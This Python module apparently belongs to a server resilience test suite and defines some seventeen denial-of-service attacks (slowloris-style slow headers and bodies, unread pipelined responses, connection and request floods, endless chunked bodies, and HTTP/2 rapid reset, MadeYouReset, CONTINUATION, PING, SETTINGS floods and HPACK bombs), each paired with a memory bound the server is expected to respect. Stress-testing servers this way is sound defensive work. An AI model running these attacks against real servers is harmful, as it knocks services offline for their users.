"""Attacks that last: each is repeated until its time is over, from addresses that are not the bystander's."""

import dataclasses
import itertools
import threading
import time
import typing

import http1
import http2
import wire


def addresses(target):
    """Addresses that the attackers of a service take in turn; never that of its bystander."""
    return itertools.cycle(f"{target.network}.3.{n}" for n in range(1, 9))


def hold(target, until, first, piece, count, of_one=False):
    """Holds `count` connections that send `first` and then `piece` every second, and opens new ones for those that end."""
    source, open_ones = itertools.cycle([f"{target.network}.4.1"]) if of_one else addresses(target), []
    while time.monotonic() < until:
        for _ in range(min(50, count - len(open_ones))):
            try:
                sock = target.connect(next(source))
                sock.sendall(first)
                sock.setblocking(False)
                open_ones.append(sock)
            except OSError:
                break
        alive = []
        for sock in open_ones:
            try:
                if piece:
                    sock.send(piece)
                if not sock.recv(4096):
                    raise ConnectionError
                alive.append(sock)
            except BlockingIOError:
                alive.append(sock)
            except OSError:
                sock.close()
        open_ones = alive
        time.sleep(0.2 if len(open_ones) < count else 1)
    for sock in open_ones:
        sock.close()


def slow_readers(target, until):
    request, open_ones = b"GET %s HTTP/1.1\r\nhost: x\r\n\r\n" % target.large * 200, []
    source = addresses(target)
    while time.monotonic() < until:
        while len(open_ones) < 100:
            try:
                sock = target.connect(next(source), receive_buffer=2048)
                sock.settimeout(0.2)
                open_ones.append(sock)
                sock.sendall(request)
            except OSError:
                break
        alive = []
        for sock in open_ones:
            try:
                sock.settimeout(0.01)
                if not sock.recv(16):
                    raise ConnectionError
                alive.append(sock)
            except TimeoutError:
                alive.append(sock)
            except OSError:
                sock.close()
        open_ones = alive
        time.sleep(1)


def openers(target, until):
    source = addresses(target)
    while time.monotonic() < until:
        try:
            target.connect(next(source)).close()
        except OSError:
            time.sleep(0.01)


def malformed(target, until):
    requests = itertools.cycle(request for _, _, request, _ in http1.REQUESTS)
    source = addresses(target)
    while time.monotonic() < until:
        try:
            with target.connect(next(source)) as sock:
                sock.sendall(next(requests).replace(b"{}", target.path))
                wire.read_to_end(sock, 1)
        except OSError:
            pass


def bodies(target, until):
    """Bodies without an end."""
    piece = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"
    source = addresses(target)
    while time.monotonic() < until:
        try:
            with target.connect(next(source)) as sock:
                sock.sendall(b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n" % target.post)
                while time.monotonic() < until:
                    sock.sendall(piece)
        except OSError:
            pass


def requests(target, until):
    """Whole requests, pipelined, whose answers are read."""
    many = b"GET %s HTTP/1.1\r\nhost: x\r\n\r\n" % target.path * 20
    source = addresses(target)
    while time.monotonic() < until:
        try:
            with target.connect(next(source)) as sock:
                while time.monotonic() < until:
                    sock.sendall(many)
                    if not sock.recv(1 << 20):
                        break
        except OSError:
            pass


def unread(target, until):
    """Whole requests, pipelined, whose answers are never read."""
    many, open_ones, source = b"GET %s HTTP/1.1\r\nhost: x\r\n\r\n" % target.large * 2000, [], addresses(target)
    while time.monotonic() < until:
        if len(open_ones) > 50:
            open_ones.pop(0).close()
        try:
            sock = target.connect(next(source), receive_buffer=2048)
            sock.settimeout(0.3)
            open_ones.append(sock)
            sock.sendall(many)
        except OSError:
            time.sleep(0.05)


def of_http2(pieces):
    def act(target, until):
        while time.monotonic() < until:
            try:
                http2.flood(target, pieces(target.path), 1)
            except OSError:
                pass

    return act


def bombs(target, until):
    while time.monotonic() < until:
        try:
            http2.hpack_bomb(target)
        except OSError:
            pass


def window_zero(target, until):
    """One client with a window of 0 and 200 streams, and a new one when it is cut."""
    while time.monotonic() < until:
        try:
            client = http2.Client(target, window=0)
            client.run(0.3)
            client.send(b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 2 * n + 1, http2.head(target.large)) for n in range(200)))
            client.run(until - time.monotonic(), http2.Client.over)
            client.sock.close()
        except OSError:
            pass


GET = b"GET %s HTTP/1.1\r\nhost: x\r\n"
POST = b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
FLOODS = {name: pieces for _, name, pieces in http2.FLOODS}


# Answers of 8 MiB that wait for clients in all have a bound of 256 MiB (`unsent_bytes_in_all`); one more may come from each processor, and the connections.
UNSENT_IN_ALL = 256 + 64


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    # What one thread does until its time is over, and the number of threads.
    act: typing.Callable
    threads: int = 1
    # The most MiB by which the memory of the service may rise.
    bound: int = 64
    # A flood takes a processor for itself; other attacks wait most of the time.
    is_flood: bool = False
    # It is an attack on large answers alone.
    of_large: bool = False


ATTACKS = [
    Attack("HTTP/2 window of 0, 200 streams", window_zero, bound=16, of_large=True),
    Attack("slow readers", slow_readers, bound=UNSENT_IN_ALL, of_large=True),
    Attack("unread answers", unread, bound=UNSENT_IN_ALL, of_large=True),
    Attack("slow heads", lambda target, until: hold(target, until, GET % target.path, b"a: b\r\n", 1000)),
    Attack("slow bodies", lambda target, until: hold(target, until, POST % target.post + b"content-length: 1000\r\n\r\n", b"x", 500)),
    Attack("idle connections", lambda target, until: hold(target, until, GET % target.path + b"\r\n", b"", 2000)),
    Attack("silent connections of one address", lambda target, until: hold(target, until, b"", b"", 1500, of_one=True)),
    Attack("connections that are closed at once", openers, 4, is_flood=True),
    Attack("malformed requests", malformed, 8, is_flood=True),
    Attack("bodies without an end", bodies, 4, is_flood=True),
    Attack("flood of requests", requests, 16, is_flood=True),
    Attack("rapid reset", of_http2(FLOODS["rapid reset"]), 2, is_flood=True),
    Attack("MadeYouReset", of_http2(FLOODS["MadeYouReset"]), 2, is_flood=True),
    Attack("CONTINUATION flood", of_http2(FLOODS["CONTINUATION flood, 8 KiB frames"]), 2, is_flood=True),
    Attack("PING flood", of_http2(FLOODS["PING flood"]), 2, is_flood=True),
    Attack("SETTINGS flood", of_http2(FLOODS["SETTINGS flood"]), 2, is_flood=True),
    Attack("HPACK bombs", bombs, 2, is_flood=True),
]


def attack(target, name, seconds):
    """The process of an attack."""
    chosen, until = next(one for one in ATTACKS if one.name == name), time.monotonic() + seconds
    running = [threading.Thread(target=chosen.act, args=(target, until), daemon=True) for _ in range(chosen.threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join(seconds + 10)
